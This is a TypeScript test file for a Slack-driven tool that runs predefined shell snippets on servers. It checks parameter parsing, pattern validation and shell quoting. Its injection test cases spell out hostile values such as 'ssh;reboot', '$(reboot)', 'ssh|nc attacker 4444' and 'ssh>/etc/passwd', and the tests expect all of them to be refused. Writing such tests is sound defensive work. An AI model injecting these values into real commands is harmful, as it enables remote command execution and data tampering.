// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shell ${…} and ${{placeholder}} in run lines are literal text under test.
import {
  checkValue,
  MAX_PARAM_VALUE_CHARS,
  type ParamProblem,
  parseRunCommand,
  renderCommand,
  resolveParams,
  type Snippet,
  shellQuote,
  snippetsFor,
} from '../../../src/domain/snippet';

const SERVICE = '^[a-z0-9@._][a-z0-9@._-]{0,63}$';
const LINES = '^[0-9]{1,4}$';

const logs: Snippet = {
  name: 'logs',
  description: 'Recent log lines of a systemd unit',
  run: 'journalctl -u {{service}} -n {{lines}} --no-pager',
  targets: ['prod-raspi'],
  params: { service: { pattern: SERVICE }, lines: { pattern: LINES, default: '100' } },
  approval: false,
};

const disk: Snippet = {
  name: 'disk',
  description: 'Disk usage',
  run: 'df -h /',
  targets: ['prod-raspi', 'staging-web'],
  params: {},
  approval: false,
};

describe('parseRunCommand', () => {
  it.each([
    ['', { kind: 'help' }],
    ['   ', { kind: 'help' }],
    ['help', { kind: 'help' }],
    ['HELP', { kind: 'help' }],
    ['prod-raspi', { kind: 'help', target: 'prod-raspi' }],
    ['prod-raspi help', { kind: 'help', target: 'prod-raspi' }],
    ['prod-raspi disk', { kind: 'run', target: 'prod-raspi', snippet: 'disk', args: '' }],
    [
      '  prod-raspi\tlogs  service=ssh lines=5 ',
      { kind: 'run', target: 'prod-raspi', snippet: 'logs', args: 'service=ssh lines=5' },
    ],
    // Slack escapes &, < and > in slash command text; the value is checked as it was typed.
    [
      'prod-raspi logs service=a&amp;&amp;b&lt;c&gt;&amp;lt;',
      { kind: 'run', target: 'prod-raspi', snippet: 'logs', args: 'service=a&&b<c>&lt;' },
    ],
  ])('reads %j', (text, expected) => {
    expect(parseRunCommand(text)).toEqual(expected);
  });
});

describe('resolveParams', () => {
  it('fills defaults and returns every declared value', () => {
    expect(resolveParams(logs, 'service=ssh')).toEqual({ ok: true, value: { service: 'ssh', lines: '100' } });
    expect(resolveParams(logs, 'lines=5 service=cron.service')).toEqual({
      ok: true,
      value: { service: 'cron.service', lines: '5' },
    });
    expect(resolveParams(disk, '')).toEqual({ ok: true, value: {} });
  });

  it('keeps a value containing = whole', () => {
    const echo: Snippet = { ...logs, run: 'echo {{kv}}', params: { kv: { pattern: '^[a-z=]+$' } } };
    expect(resolveParams(echo, 'kv=a=b')).toEqual({ ok: true, value: { kv: 'a=b' } });
  });

  it.each<[string, string, ParamProblem]>([
    ['stray word before any parameter', 'ssh', { reason: 'not-key-value', text: 'ssh' }],
    [
      'unknown parameter',
      'service=ssh unit=x',
      { reason: 'unknown-param', name: 'unit', known: ['service', 'lines'] },
    ],
    [
      'look-alike parameter name',
      'ѕervice=ssh',
      { reason: 'unknown-param', name: 'ѕervice', known: ['service', 'lines'] },
    ],
    ['repeated parameter', 'service=ssh service=cron', { reason: 'repeated-param', name: 'service' }],
    [
      'missing parameter without default',
      'lines=5',
      { reason: 'missing-param', name: 'service', pattern: SERVICE },
    ],
    ['empty value', 'service=', { reason: 'no-match', name: 'service', pattern: SERVICE, value: '' }],
  ])('refuses a %s', (_name, args, problem) => {
    expect(resolveParams(logs, args)).toEqual({ ok: false, error: problem });
  });

  it('refuses any parameter for a snippet that takes none', () => {
    expect(resolveParams(disk, 'path=/')).toEqual({
      ok: false,
      error: { reason: 'unknown-param', name: 'path', known: [] },
    });
  });
});

/**
 * Every injection form from issue 4, typed as the value of `service` (pattern SERVICE). Each is refused
 * before anything is sent, and the refusal names the parameter and its pattern.
 */
describe('injection attempts are refused, naming the parameter and the pattern', () => {
  const cases: [string, string, ParamProblem['reason']][] = [
    ['; a second command', 'ssh;reboot', 'no-match'],
    ['&& a second command', 'ssh&&reboot', 'no-match'],
    ['&& with spaces (one value until the next name=)', 'ssh && reboot', 'no-match'],
    ['| a pipe', 'ssh|nc attacker 4444', 'no-match'],
    ['|| alternative', 'ssh||reboot', 'no-match'],
    ['$() command substitution', '$(reboot)', 'no-match'],
    ['${} parameter expansion', '${IFS}reboot', 'no-match'],
    ['backticks', '`reboot`', 'no-match'],
    ['> redirection', 'ssh>/etc/passwd', 'no-match'],
    ['newline', 'ssh\nreboot', 'forbidden-character'],
    ['carriage return', 'ssh\rreboot', 'forbidden-character'],
    ['NUL', 'ssh\u0000reboot', 'forbidden-character'],
    ['ESC (terminal control)', 'ssh\u001b[2J', 'forbidden-character'],
    ['single quote', "ssh'reboot", 'no-match'],
    ['double quote', 'ssh"reboot', 'no-match'],
    ['typographic quotes', '‘ssh’', 'no-match'],
    ['fullwidth semicolon look-alike', 'ssh；reboot', 'no-match'],
    ['fullwidth letters', 'ｓｓｈ', 'no-match'],
    ['Cyrillic look-alike letters', 'ѕѕһ', 'no-match'],
    ['fullwidth dollar and parentheses', '＄（reboot）', 'no-match'],
    ['zero-width space', 'ss\u200bh', 'forbidden-character'],
    ['right-to-left override', 'ssh\u202e', 'forbidden-character'],
    ['Unicode line separator', 'ssh\u2028reboot', 'forbidden-character'],
    ['lone surrogate', 'ssh\ud800', 'forbidden-character'],
    ['very long value', 'a'.repeat(MAX_PARAM_VALUE_CHARS + 1), 'too-long'],
    ['megabyte value', 'a'.repeat(1_000_000), 'too-long'],
  ];

  it.each(cases)('%s', (_name, value, reason) => {
    const result = resolveParams(logs, `service=${value} lines=5`);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.error).toMatchObject({ reason, name: 'service', pattern: SERVICE });
  });

  it('refuses the same forms typed through Slack, which escapes & < >', () => {
    const parsed = parseRunCommand('prod-raspi logs service=ssh&amp;&amp;reboot');
    if (parsed.kind !== 'run') throw new Error('expected a run');
    expect(resolveParams(logs, parsed.args)).toEqual({
      ok: false,
      error: { reason: 'no-match', name: 'service', pattern: SERVICE, value: 'ssh&&reboot' },
    });
  });

  it('refuses control, invisible and over-long values even when the pattern allows anything', () => {
    const anything = '^[\\s\\S]*$';
    expect(checkValue('v', anything, 'a\nb')).toMatchObject({
      reason: 'forbidden-character',
      codePoint: 0x0a,
    });
    expect(checkValue('v', anything, 'a\u0000')).toMatchObject({
      reason: 'forbidden-character',
      codePoint: 0,
    });
    expect(checkValue('v', anything, '\ufeffa')).toMatchObject({
      reason: 'forbidden-character',
      codePoint: 0xfeff,
    });
    expect(checkValue('v', anything, 'x'.repeat(257))).toMatchObject({
      reason: 'too-long',
      length: 257,
      max: 256,
    });
    expect(checkValue('v', anything, 'x'.repeat(256))).toBeUndefined();
    // A surrogate pair is a character like any other; only a lone half is refused.
    expect(checkValue('v', anything, '😀')).toBeUndefined();
  });

  it('matches the pattern against the whole value even if the pattern were unanchored', () => {
    expect(checkValue('v', '[a-z]+', 'ssh;reboot')).toMatchObject({ reason: 'no-match' });
    expect(checkValue('v', '[a-z]+', 'ssh')).toBeUndefined();
    expect(checkValue('v', '^[a-z]+$|x', 'ssh;x')).toMatchObject({ reason: 'no-match' });
  });

  it('treats a pattern that does not compile as matching nothing', () => {
    expect(checkValue('v', '^[a-z$', 'a')).toMatchObject({ reason: 'no-match' });
  });
});

describe('shellQuote and renderCommand', () => {
  it.each([
    ['', "''"],
    ['ssh', "'ssh'"],
    ["it's", "'it'\\''s'"],
    ["''", "''\\'''\\'''"],
    ['$(reboot) `x` ; && | \\ "', "'$(reboot) `x` ; && | \\ \"'"],
    ['a\nb', "'a\nb'"],
  ])('quotes %j as %s', (value, quoted) => {
    expect(shellQuote(value)).toBe(quoted);
  });

  it('puts every value in place, single-quoted, and leaves the template alone', () => {
    expect(renderCommand(logs.run, { service: 'ssh', lines: '100' })).toBe(
      "journalctl -u 'ssh' -n '100' --no-pager",
    );
    expect(renderCommand('echo --unit={{u}}{{u}}', { u: "a'b" })).toBe("echo --unit='a'\\''b''a'\\''b'");
    expect(renderCommand(disk.run, {})).toBe('df -h /');
  });

  it('refuses to render a placeholder without a value rather than leave it in the command', () => {
    expect(() => renderCommand('echo {{x}}', {})).toThrow('no value for {{x}}');
  });
});

describe('snippetsFor', () => {
  it('lists the snippets a target allows, in config order', () => {
    const snippets = { disk, logs };
    expect(snippetsFor('prod-raspi', snippets).map((s) => s.name)).toEqual(['disk', 'logs']);
    expect(snippetsFor('staging-web', snippets).map((s) => s.name)).toEqual(['disk']);
    expect(snippetsFor('nowhere', snippets)).toEqual([]);
  });
});
